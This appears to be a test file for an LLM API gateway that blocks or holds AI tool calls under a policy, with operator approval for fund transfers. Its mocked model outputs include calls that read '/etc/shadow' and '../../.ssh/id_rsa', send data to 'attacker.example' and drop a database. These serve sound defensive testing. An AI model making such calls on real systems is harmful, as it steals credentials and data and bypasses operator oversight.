// Tool calls in LLM API traffic under a policy's `tools:` section, through the gateway with the
// official SDK clients: denied calls never reach the client (non-streamed: replaced by a note the
// model reads next turn; streamed: the stream stops before the call's first event), and calls to
// high-impact tools wait for an operator's answer through the admin API or the CLI.
import { createHash } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import OpenAI from 'openai';
import { run as approvalsCli } from '../../src/cli/approvals.ts';
import { startStack } from './harness.ts';
import type { Stack } from './harness.ts';
import { pendingApprovals, waitForPending, withAdminToken } from './admin-cli.ts';

const TOKEN = 'test-admin-token-0123456789abcdef';
const TOKEN_SHA = createHash('sha256').update(TOKEN).digest('hex');

const YAML = (extra = ''): string => `
server:
  admin_token_sha256: ${TOKEN_SHA}
policies:
  default:
    tools:
      allow: [get_weather, fetch_url, read_file, transfer_funds, send_email]
      deny: [send_email]
      schemas:
        get_weather:
          type: object
          required: [city]
          additionalProperties: false
          properties:
            city: { type: string, maxLength: 40 }
      arguments:
        - tools: [read_file]
          field: path
          deny: ['\\.\\.', '^/etc/']
      url_domains: [docs.example.com, '*.trusted.example']
      approval:
        tools: [transfer_funds]
        timeout_ms: ${extra === 'short' ? 400 : 20000}
${extra === 'block' ? '      on_deny: block' : ''}
`;

async function adminPost(stack: Stack, path: string, token = TOKEN): Promise<Response> {
  return fetch(`${stack.url}/parapet/admin${path}`, { method: 'POST', headers: { authorization: `Bearer ${token}` } });
}

function ask(client: OpenAI, prompt: string): Promise<OpenAI.Chat.Completions.ChatCompletion> {
  return client.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: prompt }] });
}

describe('tool-call policy (non-streamed)', () => {
  let stack: Stack;
  beforeAll(async () => {
    stack = await startStack({ yaml: YAML() });
  });
  afterAll(async () => {
    await stack.close();
  });

  it('passes an allowed call that meets its schema, unchanged', async () => {
    stack.mock.setScript([{ match: 'weather', tool_calls: [{ name: 'get_weather', arguments: { city: 'Paris' } }] }]);
    const r = await ask(stack.openai(), 'weather please');
    expect(r.choices[0]?.finish_reason).toBe('tool_calls');
    expect(r.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'get_weather', arguments: '{"city":"Paris"}' } });
  });

  const denied: [string, { name: string; arguments: Record<string, unknown> }, RegExp, string][] = [
    ['a tool not on the allow list', { name: 'drop_database', arguments: {} }, /not on the policy's list of allowed tools/, 'tools.allow'],
    ['a tool on the deny list', { name: 'send_email', arguments: { to: 'x@example.com' } }, /deny list/, 'tools.deny'],
    ['arguments that break the schema', { name: 'get_weather', arguments: { city: 'Paris', unit: 'K' } }, /breaks the policy's schema/, 'tools.schemas.get_weather'],
    ['a path traversal in a denied field', { name: 'read_file', arguments: { path: 'docs/../../secrets.txt' } }, /argument 'path' matches a denied pattern/, 'tools.arguments[0].deny'],
    ['a URL to a domain that is not allowed', { name: 'fetch_url', arguments: { url: 'https://attacker.example/collect?d=1' } }, /attacker\.example/, 'tools.url_domains'],
  ];
  for (const [what, call, reason, rule] of denied) {
    it(`takes out ${what} and tells the model why`, async () => {
      stack.mock.setScript([{ match: 'go', reply: 'On it.', tool_calls: [call] }]);
      const r = await ask(stack.openai(), 'go');
      const choice = r.choices[0];
      expect(choice?.message.tool_calls).toBeUndefined();
      expect(choice?.finish_reason).toBe('stop');
      expect(choice?.message.content).toMatch(/^On it\.\n\n\[Parapet\] The gateway's tool policy stopped a tool call/);
      expect(choice?.message.content).toMatch(reason);
      const [event] = await stack.audit();
      expect(event).toMatchObject({ decision: 'redact', rule });
      expect(event?.findings.some((f) => f.rule === rule && f.category === 'tool_abuse' && f.owasp.includes('LLM06'))).toBe(true);
    });
  }

  it('keeps the allowed calls of a response and drops only the denied one', async () => {
    stack.mock.setScript([
      { match: 'both', tool_calls: [{ name: 'get_weather', arguments: { city: 'Oslo' } }, { name: 'fetch_url', arguments: { url: 'https://docs.example.com/a' } }, { name: 'fetch_url', arguments: { url: 'http://evil.example/x' } }] },
    ]);
    const r = await ask(stack.openai(), 'both');
    const calls = r.choices[0]?.message.tool_calls ?? [];
    expect(calls.map((c) => (c.type === 'function' ? c.function.arguments : ''))).toEqual(['{"city":"Oslo"}', '{"url":"https://docs.example.com/a"}']);
    expect(r.choices[0]?.finish_reason).toBe('tool_calls');
    expect(r.choices[0]?.message.content).toMatch(/evil\.example/);
  });

  it('holds a high-impact call until an operator approves it through the CLI', async () => {
    stack.mock.setScript([{ match: 'pay', tool_calls: [{ name: 'transfer_funds', arguments: { to: 'ACME', amount: 120 } }] }]);
    const answer = ask(stack.openai(), 'pay the invoice');
    const held = await waitForPending(stack.url, TOKEN);
    expect(held).toMatchObject({ tool: 'transfer_funds', app: 'test-app', arguments: '{"to":"ACME","amount":120}' });
    await withAdminToken(TOKEN, async () => {
      expect(await approvalsCli(['approve', held.id, '--url', stack.url, '--as', 'alice'])).toBe(0);
    });
    const r = await answer;
    expect(r.choices[0]?.message.tool_calls?.[0]).toMatchObject({ function: { name: 'transfer_funds' } });
    const [event] = await stack.audit();
    expect(event?.findings.find((f) => f.rule === 'tools.approval.approved')?.explanation).toMatch(/approved by admin:alice/);
    expect(await pendingApprovals(stack.url, TOKEN)).toEqual([]);
  });

  it('a denial through the admin API takes the call out', async () => {
    stack.mock.setScript([{ match: 'pay', tool_calls: [{ name: 'transfer_funds', arguments: { to: 'ACME', amount: 99999 } }] }]);
    const answer = ask(stack.openai(), 'pay it all');
    const held = await waitForPending(stack.url, TOKEN);
    expect((await adminPost(stack, `/approvals/${held.id}/deny`)).status).toBe(200);
    const r = await answer;
    expect(r.choices[0]?.message.tool_calls).toBeUndefined();
    expect(r.choices[0]?.message.content).toMatch(/was denied by admin/);
    // Decided once: a second answer finds nothing to decide.
    expect((await adminPost(stack, `/approvals/${held.id}/approve`)).status).toBe(404);
  });

  it('the admin API refuses a wrong token', async () => {
    expect((await adminPost(stack, '/approvals/apr_x/approve', 'not-the-token-at-all')).status).toBe(401);
    const res = await fetch(`${stack.url}/parapet/admin/approvals`);
    expect(res.status).toBe(401);
  });
});

describe('tool-call policy: timeouts, block mode, no admin token', () => {
  it('no answer in time is a denial', async () => {
    const stack = await startStack({ yaml: YAML('short') });
    try {
      stack.mock.setScript([{ match: 'pay', tool_calls: [{ name: 'transfer_funds', arguments: { to: 'ACME', amount: 1 } }] }]);
      const r = await ask(stack.openai(), 'pay');
      expect(r.choices[0]?.message.tool_calls).toBeUndefined();
      expect(r.choices[0]?.message.content).toMatch(/needed an operator's approval and none came within/);
      const [event] = await stack.audit();
      expect(event).toMatchObject({ decision: 'redact', rule: 'tools.approval.timeout' });
    } finally {
      await stack.close();
    }
  });

  it('on_deny: block refuses the whole response in the client\'s error shape', async () => {
    const stack = await startStack({ yaml: YAML('block') });
    try {
      stack.mock.setScript([{ match: 'go', tool_calls: [{ name: 'drop_database', arguments: {} }] }]);
      const err = await ask(stack.openai(), 'go').catch((e: unknown) => e);
      expect(err).toBeInstanceOf(OpenAI.BadRequestError);
      expect((err as InstanceType<typeof OpenAI.BadRequestError>).code).toBe('content_policy_violation');
      expect((err as Error).message).toMatch(/Tool 'drop_database' is not on the policy's list of allowed tools/);
      const [event] = await stack.audit();
      expect(event).toMatchObject({ decision: 'block' });
    } finally {
      await stack.close();
    }
  });

  it('without an admin token the admin API does not exist', async () => {
    const stack = await startStack();
    try {
      const res = await fetch(`${stack.url}/parapet/admin/approvals`, { headers: { authorization: `Bearer ${TOKEN}` } });
      expect(res.status).toBe(404);
      expect(await res.text()).toMatch(/admin API is off/);
    } finally {
      await stack.close();
    }
  });
});

describe('tool-call policy (streamed)', () => {
  let stack: Stack;
  beforeAll(async () => {
    stack = await startStack({ yaml: YAML() });
  });
  afterAll(async () => {
    await stack.close();
  });

  it('OpenAI: a denied call never shows up in the stream; the note stands in its place', async () => {
    stack.mock.setScript([{ match: 'go', reply: 'Let me read that.', tool_calls: [{ name: 'read_file', arguments: { path: '/etc/shadow' } }, { name: 'get_weather', arguments: { city: 'Rome' } }], chunk_size: 3 }]);
    const stream = await stack.openai().chat.completions.create({ model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: 'go' }] });
    let text = '';
    const names: string[] = [];
    let finish: string | null | undefined;
    for await (const chunk of stream) {
      const c = chunk.choices[0];
      text += c?.delta.content ?? '';
      for (const tc of c?.delta.tool_calls ?? []) if (tc.function?.name) names.push(tc.function.name);
      if (c?.finish_reason) finish = c.finish_reason;
    }
    expect(names).toEqual(['get_weather']);
    expect(text).toMatch(/^Let me read that\.\n\n\[Parapet\] The gateway's tool policy stopped a tool call; it was not run:\n- Tool 'read_file': argument 'path' matches a denied pattern\.$/);
    expect(finish).toBe('tool_calls');
    const [event] = await stack.audit();
    expect(event).toMatchObject({ decision: 'redact', rule: 'tools.arguments[0].deny' });
  });

  it('OpenAI: with every call taken out, the turn ends as a plain answer', async () => {
    stack.mock.setScript([{ match: 'go', tool_calls: [{ name: 'drop_database', arguments: {} }], chunk_size: 3 }]);
    const final = await stack.openai().chat.completions.stream({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'go' }] }).finalChatCompletion();
    expect(final.choices[0]?.message.tool_calls ?? []).toEqual([]);
    expect(final.choices[0]?.finish_reason).toBe('stop');
    expect(final.choices[0]?.message.content).toMatch(/Tool 'drop_database' is not on the policy's list of allowed tools/);
  });

  it('Anthropic: a denied call never shows up in the stream; a text block stands at its index', async () => {
    stack.mock.setScript([{ match: 'go', reply: 'Sure.', tool_calls: [{ name: 'drop_database', arguments: { really: true } }], chunk_size: 4 }]);
    const stream = stack.anthropic().messages.stream({ model: 'claude-sonnet-4-5', max_tokens: 100, messages: [{ role: 'user', content: 'go' }] });
    const types: string[] = [];
    for await (const ev of stream) if (ev.type === 'content_block_start') types.push(ev.content_block.type);
    const final = await stream.finalMessage();
    expect(types).toEqual(['text', 'text']);
    expect(final.stop_reason).toBe('end_turn');
    expect(final.content.map((b) => (b.type === 'text' ? b.text : b.type))).toEqual(['Sure.', expect.stringMatching(/^\[Parapet\].*\n- Tool 'drop_database' is not on the policy's list of allowed tools\.$/s)]);
  });

  it('on_deny: block stops the stream before the call (content_filter / refusal)', async () => {
    const blocking = await startStack({ yaml: YAML('block') });
    try {
      blocking.mock.setScript([{ match: 'go', reply: 'Let me read that.', tool_calls: [{ name: 'read_file', arguments: { path: '/etc/shadow' } }], chunk_size: 3 }]);
      const stream = await blocking.openai().chat.completions.create({ model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: 'go' }] });
      let text = '';
      let sawToolCall = false;
      let finish: string | null | undefined;
      for await (const chunk of stream) {
        const c = chunk.choices[0];
        text += c?.delta.content ?? '';
        if (c?.delta.tool_calls) sawToolCall = true;
        if (c?.finish_reason) finish = c.finish_reason;
      }
      // Text before the call may have been released (or still held when the stop came); never more.
      expect('Let me read that.'.startsWith(text)).toBe(true);
      expect(sawToolCall).toBe(false);
      expect(finish).toBe('content_filter');
      const [event] = await blocking.audit();
      expect(event).toMatchObject({ decision: 'block', rule: 'tools.arguments[0].deny' });

      blocking.mock.setScript([{ match: 'go', tool_calls: [{ name: 'drop_database', arguments: { really: true } }], chunk_size: 4 }]);
      const a = blocking.anthropic().messages.stream({ model: 'claude-sonnet-4-5', max_tokens: 100, messages: [{ role: 'user', content: 'go' }] });
      const final = await a.finalMessage();
      expect(final.content.some((b) => b.type === 'tool_use')).toBe(false);
      expect(final.stop_reason).toBe('refusal');
    } finally {
      await blocking.close();
    }
  });

  it('OpenAI: an approved call is released whole after the operator answers', async () => {
    stack.mock.setScript([{ match: 'pay', tool_calls: [{ name: 'transfer_funds', arguments: { to: 'ACME', amount: 7 } }], chunk_size: 5 }]);
    const run = (async () => {
      const stream = await stack.openai().chat.completions.create({ model: 'gpt-4o-mini', stream: true, messages: [{ role: 'user', content: 'pay' }] });
      let args = '';
      let name = '';
      let finish: string | null | undefined;
      for await (const chunk of stream) {
        const c = chunk.choices[0];
        for (const tc of c?.delta.tool_calls ?? []) {
          name += tc.function?.name ?? '';
          args += tc.function?.arguments ?? '';
        }
        if (c?.finish_reason) finish = c.finish_reason;
      }
      return { name, args, finish };
    })();
    const held = await waitForPending(stack.url, TOKEN);
    expect(held.arguments).toBe('{"to":"ACME","amount":7}');
    expect((await adminPost(stack, `/approvals/${held.id}/approve`)).status).toBe(200);
    expect(await run).toEqual({ name: 'transfer_funds', args: '{"to":"ACME","amount":7}', finish: 'tool_calls' });
  });

  it('Anthropic: an approved call is released whole; a denied one stops the message', async () => {
    for (const verb of ['approve', 'deny'] as const) {
      stack.mock.setScript([{ match: 'pay', reply: 'Paying.', tool_calls: [{ name: 'transfer_funds', arguments: { to: 'ACME', amount: 3 } }], chunk_size: 4 }]);
      const stream = stack.anthropic().messages.stream({ model: 'claude-sonnet-4-5', max_tokens: 100, messages: [{ role: 'user', content: 'pay' }] });
      const held = await waitForPending(stack.url, TOKEN);
      expect((await adminPost(stack, `/approvals/${held.id}/${verb}`)).status).toBe(200);
      const final = await stream.finalMessage();
      const tool = final.content.find((b) => b.type === 'tool_use');
      if (verb === 'approve') {
        expect(tool).toMatchObject({ name: 'transfer_funds', input: { to: 'ACME', amount: 3 } });
        expect(final.stop_reason).toBe('tool_use');
      } else {
        expect(tool).toBeUndefined();
        expect(final.stop_reason).toBe('end_turn');
        expect(final.content.map((b) => (b.type === 'text' ? b.text : b.type))).toEqual(['Paying.', expect.stringMatching(/Tool 'transfer_funds' was denied by admin/)]);
      }
    }
  });
});

describe('tool-call policy (Anthropic, non-streamed)', () => {
  it('replaces a denied tool_use block with a note and ends the turn', async () => {
    const stack = await startStack({ yaml: YAML() });
    try {
      stack.mock.setScript([{ match: 'go', reply: 'Checking.', tool_calls: [{ name: 'fetch_url', arguments: { url: 'https://a.trusted.example/ok' } }, { name: 'read_file', arguments: { path: '../../.ssh/id_rsa' } }] }]);
      const msg = await stack.anthropic().messages.create({ model: 'claude-sonnet-4-5', max_tokens: 100, messages: [{ role: 'user', content: 'go' }] });
      const tools = msg.content.filter((b) => b.type === 'tool_use');
      expect(tools.map((b) => b.name)).toEqual(['fetch_url']);
      expect(msg.stop_reason).toBe('tool_use');
      const note = msg.content.at(-1);
      expect(note?.type === 'text' && note.text).toMatch(/Tool 'read_file': argument 'path' matches a denied pattern/);
    } finally {
      await stack.close();
    }
  });
});
